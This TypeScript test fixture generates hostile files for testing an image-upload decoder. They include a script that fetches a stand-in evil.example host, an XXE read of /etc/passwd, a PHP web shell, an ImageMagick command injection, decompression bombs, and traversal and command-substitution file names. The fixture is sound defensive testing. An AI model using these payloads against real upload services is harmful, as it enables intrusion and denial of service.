import { createHash } from 'node:crypto'
import { crc32, deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'
import { cardPicture } from './make-pictures.ts'

/** A mark in hostile files. The mark must not appear in any output. */
export const SECRET = 'HOSTILE-MARK-7f3a19c4'

/**
 * The expected outcome of a file: refused with a code, or accepted as nothing but its picture. "either" where the
 * decoder may do one or the other.
 */
export type Fate = '915' | '930' | '931' | 'clean' | 'either'

export interface HostileFile {
  readonly name: string
  readonly bytes: Buffer
  readonly fate: Fate
  readonly fileName?: string
  readonly type?: string
}

const text = (content: string): Buffer => Buffer.from(content, 'latin1')
const SCRIPT = `<script>fetch('//evil.example/${SECRET}')</script>`

/** Files of other types under any name; the decoder must not open them. */
function foreignFiles(): HostileFile[] {
  const kinds: readonly (readonly [string, Buffer])[] = [
    ['an empty file', Buffer.alloc(0)],
    ['one byte', text('x')],
    ['a text', text(SECRET)],
    ['a page of HTML', text(`<!doctype html><body>${SCRIPT}`)],
    [
      'an SVG',
      text(`<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400"><rect width="400" height="400"/></svg>`),
    ],
    [
      'an SVG with a script',
      text(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="400" height="400">${SCRIPT}</svg>`),
    ],
    [
      'an SVG that reads a file',
      text(
        `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" width="400" height="400"><text>&x;</text></svg>`,
      ),
    ],
    [
      'an SVG that loads from elsewhere',
      text(
        `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400"><image href="http://127.0.0.1:1/${SECRET}"/></svg>`,
      ),
    ],
    ['a pressed SVG', gzipSync(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`)],
    [
      'a billion laughs',
      text(
        `<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><l>&c;</l>`,
      ),
    ],
    ['a zip', text(`PK\u0003\u0004\u0014\u0000${SECRET}`)],
    ["a zip bomb's outside", gzipSync(Buffer.alloc(20_000_000))],
    ['a PDF', text(`%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj ${SECRET}`)],
    ['a program of Windows', text(`MZ\u0090\u0000${SECRET}`)],
    ['a program of Linux', text(`\x7fELF\u0002\u0001${SECRET}`)],
    ['a shell script', text(`#!/bin/sh\ntouch /tmp/${SECRET}`)],
    ['a PHP page', text(`<?php system($_GET['x']); /* ${SECRET} */ ?>`)],
    ['JavaScript', text(`alert('${SECRET}')`)],
    ['a GIF', text('GIF87a\u0001\u0000\u0001\u0000\u0000\u0000\u0000;')],
    ['a GIF that is JavaScript', text(`GIF89a/*\u0000\u0000*/=1;alert('${SECRET}')`)],
    ['a BMP', text(`BM\u0036\u0000\u0000\u0000${SECRET}`)],
    ['a HEIC', text(`\u0000\u0000\u0000\u0018ftypheic\u0000\u0000\u0000\u0000${SECRET}`)],
    ['an icon', text(`\u0000\u0000\u0001\u0000\u0001\u0000${SECRET}`)],
    ['a film', text(`\u0000\u0000\u0000\u0020ftypisom${SECRET}`)],
    ['music', text(`ID3\u0004\u0000${SECRET}`)],
    ['a JPEG 2000', text(`\u0000\u0000\u0000\u000cjP  \r\n\x87\n${SECRET}`)],
    ['a JPEG XL', text(`\xff\u000a${SECRET}`)],
    ['a Photoshop file', text(`8BPS\u0000\u0001${SECRET}`)],
    [
      'drawing commands of ImageMagick',
      text(`push graphic-context\nimage over 0,0 0,0 'https://evil.example/"|touch /tmp/${SECRET}'`),
    ],
    ['PostScript', text(`%!PS\n(${SECRET}) run`)],
    ['a picture of high range', text(`#?RADIANCE\n-Y 50000 +X 50000\n${SECRET}`)],
    ["a telescope's picture", text(`SIMPLE  =                    T ${SECRET}`)],
    ['a plain pixmap of 50,000 points a side', text(`P6\n50000 50000\n255\n${SECRET}`)],
    ['a BigTIFF', text(`II+\u0000\u0008\u0000\u0000\u0000${SECRET}`)],
    ['noise', createNoise(65_536)],
    ['a megabyte of nothing', Buffer.alloc(1_000_000)],
    ['the beginning of a JPEG without the rest', Buffer.from([0xff, 0xd8, 0xff])],
    ["a JPEG's beginning before HTML", Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), text(SCRIPT)])],
    ["a PNG's beginning before a zip", Buffer.concat([PNG_HEAD, text(`PK\u0003\u0004${SECRET}`)])],
    ["a WebP's beginning before noise", Buffer.concat([text('RIFF\xff\xff\xff\x7fWEBP'), createNoise(500)])],
  ]
  return kinds.map(([name, bytes]) => ({ name, bytes, fate: '915' }))
}

const PNG_HEAD = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1')

/** Meaningless bytes, equal in every run. */
function createNoise(length: number): Buffer {
  const blocks = Array.from({ length: Math.ceil(length / 32) }, (_, at) =>
    createHash('sha256').update(`noise ${at}`).digest(),
  )
  return Buffer.concat(blocks).subarray(0, length)
}

function chunk(kind: string, data: Buffer): Buffer {
  const named = Buffer.concat([text(kind), data])
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  sum.writeUInt32BE(crcOf(named))
  return Buffer.concat([length, named, sum])
}

// Node 20 has `crc32` since 20.15, but its types do not.
const crcOf = crc32 as unknown as (bytes: Buffer) => number

interface PngPlan {
  readonly width: number
  readonly height: number
  readonly bitDepth?: number
  readonly rows?: Buffer
  readonly before?: readonly Buffer[]
}

/** A grey PNG built by hand. */
function pngOf({
  width,
  height,
  bitDepth = 8,
  rows = Buffer.alloc(height * (1 + Math.ceil((width * bitDepth) / 8))),
  before = [],
}: PngPlan): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  head[8] = bitDepth
  return Buffer.concat([
    PNG_HEAD,
    chunk('IHDR', head),
    ...before,
    chunk('IDAT', deflateSync(rows)),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

/** Inserts a segment into a JPEG after its first two bytes. */
function withSegment(jpeg: Buffer, marker: number, data: Buffer, times = 1): Buffer {
  const head = Buffer.alloc(4)
  head.writeUInt16BE(0xff00 + marker, 0)
  head.writeUInt16BE(data.length + 2, 2)
  const segment = Buffer.concat([head, data])
  return Buffer.concat([jpeg.subarray(0, 2), ...Array.from({ length: times }, () => segment), jpeg.subarray(2)])
}

/** Changes the height and width in the frame header of a JPEG. */
function withFrameSize(jpeg: Buffer, width: number, height: number): Buffer {
  const bytes = Buffer.from(jpeg)
  for (let at = 2; at < bytes.length - 8;) {
    const marker = bytes[at + 1] ?? 0
    if (marker >= 0xc0 && marker <= 0xc2) {
      bytes.writeUInt16BE(height, at + 5)
      bytes.writeUInt16BE(width, at + 7)
      return bytes
    }
    at += 2 + bytes.readUInt16BE(at + 2)
  }
  throw new Error('a JPEG without a frame')
}

/** Repeats the last scan of a progressive JPEG, which is little to send and much to decode. */
function withManyScans(jpeg: Buffer, times: number): Buffer {
  const start = jpeg.lastIndexOf(Buffer.from([0xff, 0xda]))
  const scan = jpeg.subarray(start, -2)
  return Buffer.concat([jpeg.subarray(0, -2), ...Array.from({ length: times }, () => scan), jpeg.subarray(-2)])
}

/** Pictures of the three formats that end early, state a wrong size, or expand to a huge size. */
async function brokenFiles(): Promise<HostileFile[]> {
  const jpeg = await cardPicture().jpeg().toBuffer()
  const progressive = await cardPicture().jpeg({ progressive: true }).toBuffer()
  const png = await cardPicture().png().toBuffer()
  const noisyPng = await sharp(createNoise(300 * 300 * 3), { raw: { width: 300, height: 300, channels: 3 } })
    .png()
    .toBuffer()
  const webp = await cardPicture().webp({ lossless: true }).toBuffer()
  const wrongSum = Buffer.from(noisyPng)
  wrongSum.writeUInt32BE(1, wrongSum.length - 16)
  return [
    { name: 'half a JPEG', bytes: jpeg.subarray(0, jpeg.length / 2), fate: '915' },
    { name: 'nine tenths of a JPEG', bytes: jpeg.subarray(0, Math.floor(jpeg.length * 0.9)), fate: '915' },
    { name: 'a JPEG without its scan', bytes: jpeg.subarray(0, jpeg.indexOf(Buffer.from([0xff, 0xda]))), fate: '915' },
    { name: 'half a PNG', bytes: noisyPng.subarray(0, noisyPng.length / 2), fate: '915' },
    { name: 'a PNG whose sums are wrong', bytes: wrongSum, fate: 'either' },
    { name: 'a PNG of no rows', bytes: pngOf({ width: 400, height: 400, rows: Buffer.alloc(0) }), fate: '915' },
    { name: 'half a WebP', bytes: webp.subarray(0, webp.length / 2), fate: '915' },
    {
      name: 'a PNG of 50,000 points a side',
      bytes: pngOf({ width: 50_000, height: 50_000, rows: Buffer.alloc(1_000) }),
      fate: '931',
    },
    {
      name: 'a PNG of 2³¹−1 points a side',
      bytes: pngOf({ width: 2 ** 31 - 1, height: 2 ** 31 - 1, rows: Buffer.alloc(1_000) }),
      fate: 'either',
    },
    { name: 'a JPEG that says it has 65,500 points a side', bytes: withFrameSize(jpeg, 65_500, 65_500), fate: '931' },
    { name: 'a JPEG that says it is higher than it is', bytes: withFrameSize(jpeg, 640, 4_000), fate: 'either' },
    {
      name: 'a bomb: 400 million points in 50 KB',
      bytes: pngOf({ width: 20_000, height: 20_000, bitDepth: 1 }),
      fate: '931',
    },
    {
      name: 'a bomb just within the bounds: 36 million points in 40 KB',
      bytes: pngOf({ width: 6_000, height: 6_000 }),
      fate: 'clean',
    },
    {
      name: "a bomb of text: 50 MB in a PNG's remark",
      bytes: pngOf({
        width: 400,
        height: 400,
        before: [
          chunk('zTXt', Buffer.concat([text('Comment\u0000\u0000'), deflateSync(Buffer.alloc(50_000_000, 65))])),
        ],
      }),
      fate: 'either',
    },
    {
      name: "a bomb of colours: 50 MB in a PNG's profile",
      bytes: pngOf({
        width: 400,
        height: 400,
        before: [chunk('iCCP', Buffer.concat([text('x\u0000\u0000'), deflateSync(Buffer.alloc(50_000_000))]))],
      }),
      fate: 'either',
    },
    {
      name: 'a picture 50,000 points long',
      bytes: await sharp({ create: { width: 50_000, height: 300, channels: 3, background: '#222' } })
        .png()
        .toBuffer(),
      fate: '931',
    },
    {
      name: 'one point',
      bytes: await sharp({ create: { width: 1, height: 1, channels: 3, background: '#222' } })
        .png()
        .toBuffer(),
      fate: '915',
    },
    { name: 'a line of 20,000 points', bytes: pngOf({ width: 20_000, height: 1 }), fate: '915' },
    { name: 'a JPEG of two thousand scans', bytes: withManyScans(progressive, 2_000), fate: 'either' },
    { name: 'a JPEG of a thousand remarks', bytes: withSegment(jpeg, 0xfe, text(SECRET), 1_000), fate: 'clean' },
    {
      name: 'a PNG in twenty thousand pieces',
      bytes: Buffer.concat([
        png.subarray(0, 33),
        ...Array.from({ length: 20_000 }, () => chunk('tEXt', text(`k\u0000${SECRET}`))),
        png.subarray(33),
      ]),
      fate: 'either',
    },
    { name: 'an AVIF', bytes: await cardPicture().avif({ effort: 0 }).toBuffer(), fate: '915' },
    { name: 'a TIFF', bytes: await cardPicture().tiff().toBuffer(), fate: '915' },
    { name: 'a GIF of the right size', bytes: await cardPicture().gif().toBuffer(), fate: '915' },
    { name: 'more bytes than may be', bytes: Buffer.concat([jpeg, Buffer.alloc(15_000_001)]), fate: '930' },
  ]
}

/** Valid pictures with foreign data or with metadata. */
async function ladenFiles(): Promise<HostileFile[]> {
  const jpeg = await cardPicture().jpeg().toBuffer()
  const png = await cardPicture().png().toBuffer()
  const webp = await cardPicture().webp().toBuffer()
  const gps = {
    IFD0: { Copyright: SECRET, Make: SECRET },
    IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '18/1 31/1 12/1', GPSLongitudeRef: 'E', GPSLongitude: '73/1 51/1 24/1' },
  }
  const xmp = `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">${SECRET}${SCRIPT}</x:xmpmeta><?xpacket end="w"?>`
  const clean = (name: string, bytes: Buffer, more: Partial<HostileFile> = {}): HostileFile => ({
    name,
    bytes,
    fate: 'clean',
    ...more,
  })
  return [
    clean('a JPEG with where it was taken', await cardPicture().jpeg().withExif(gps).toBuffer()),
    clean('a WebP with where it was taken', await cardPicture().webp().withExif(gps).toBuffer()),
    clean('a PNG with where it was taken', await cardPicture().png().withExif(gps).toBuffer()),
    clean('a JPEG with a script in its XMP', withSegment(jpeg, 0xe1, text(`http://ns.adobe.com/xap/1.0/\u0000${xmp}`))),
    clean(
      'a JPEG with IPTC',
      withSegment(
        jpeg,
        0xed,
        text(
          `Photoshop 3.0\u00008BIM\u0004\u0004\u0000\u0000\u0000\u0000\u0000\u001a\u001c\u0002\u0078\u0000\u0015${SECRET}`,
        ),
      ),
    ),
    clean('a JPEG with HTML in its remark', withSegment(jpeg, 0xfe, text(SCRIPT))),
    clean('a JPEG with PHP in its remark', withSegment(jpeg, 0xfe, text(`<?php system('${SECRET}') ?>`))),
    clean('a JPEG with a zip behind it', Buffer.concat([jpeg, text(`PK\u0003\u0004${SECRET}PK\u0005\u0006`)])),
    clean('a JPEG with a page behind it', Buffer.concat([jpeg, text(`<html>${SCRIPT}</html>`)])),
    clean('a JPEG with a second JPEG behind it', Buffer.concat([jpeg, withSegment(jpeg, 0xfe, text(SECRET))])),
    clean('a PNG with a zip behind it', Buffer.concat([png, text(`PK\u0003\u0004${SECRET}`)])),
    clean(
      'a PNG with HTML in its text',
      Buffer.concat([png.subarray(0, 33), chunk('tEXt', text(`Comment\u0000${SCRIPT}`)), png.subarray(33)]),
    ),
    clean(
      'a PNG with a piece nobody knows',
      Buffer.concat([png.subarray(0, 33), chunk('haXx', text(SECRET)), png.subarray(33)]),
    ),
    clean('a WebP with a program behind it', Buffer.concat([webp, text(`MZ${SECRET}`)])),
    clean(
      'a JPEG with a profile of 2 MB that is none',
      withSegment(jpeg, 0xe2, Buffer.concat([text('ICC_PROFILE\u0000\u0001\u0021'), createNoise(60_000)]), 33),
    ),
    clean('a JPEG with a wide profile', await cardPicture().jpeg().withIccProfile('p3').toBuffer()),
    clean(
      'a JPEG lying on its side',
      await cardPicture()
        .jpeg()
        .withExif({ IFD0: { Orientation: '6' } })
        .toBuffer(),
    ),
    clean(
      'a JPEG turned in a way there is none',
      await cardPicture()
        .jpeg()
        .withExif({ IFD0: { Orientation: '99' } })
        .toBuffer(),
    ),
    clean('a JPEG for printers', await cardPicture().toColourspace('cmyk').jpeg().toBuffer()),
    clean('a JPEG in grey', await cardPicture().greyscale().jpeg().toBuffer()),
    clean('a PNG of 16 bits', await cardPicture().toColourspace('rgb16').png().toBuffer()),
    clean('a PNG that one can see through', await cardPicture().ensureAlpha(0.2).png().toBuffer()),
    clean(
      'a PNG in seven passes',
      await cardPicture({ width: 3_000, height: 3_000 }).png({ progressive: true }).toBuffer(),
    ),
    clean('a PNG that is called a page', png, { fileName: 'photo.html', type: 'text/html' }),
    clean('a JPEG that is called an SVG', jpeg, { fileName: 'photo.svg', type: 'image/svg+xml' }),
    clean('a JPEG whose name leads out of its folder', jpeg, { fileName: '../../../../etc/passwd' }),
    clean('a JPEG with a name of ten thousand letters', jpeg, { fileName: `${'n'.repeat(10_000)}.jpg` }),
    clean('a JPEG whose name is a command', jpeg, { fileName: '$(touch x);.jpg' }),
    clean(
      'a picture of the most points that are taken',
      await cardPicture({ width: 7_900, height: 5_000 }).jpeg().toBuffer(),
    ),
    clean(
      'the same in many passes',
      await cardPicture({ width: 7_900, height: 5_000 }).jpeg({ progressive: true }).toBuffer(),
    ),
    {
      name: 'one row of points more',
      bytes: await cardPicture({ width: 8_000, height: 5_001 }).jpeg().toBuffer(),
      fate: '931',
    },
  ]
}

export async function hostileFiles(): Promise<HostileFile[]> {
  return [...foreignFiles(), ...(await brokenFiles()), ...(await ladenFiles())]
}
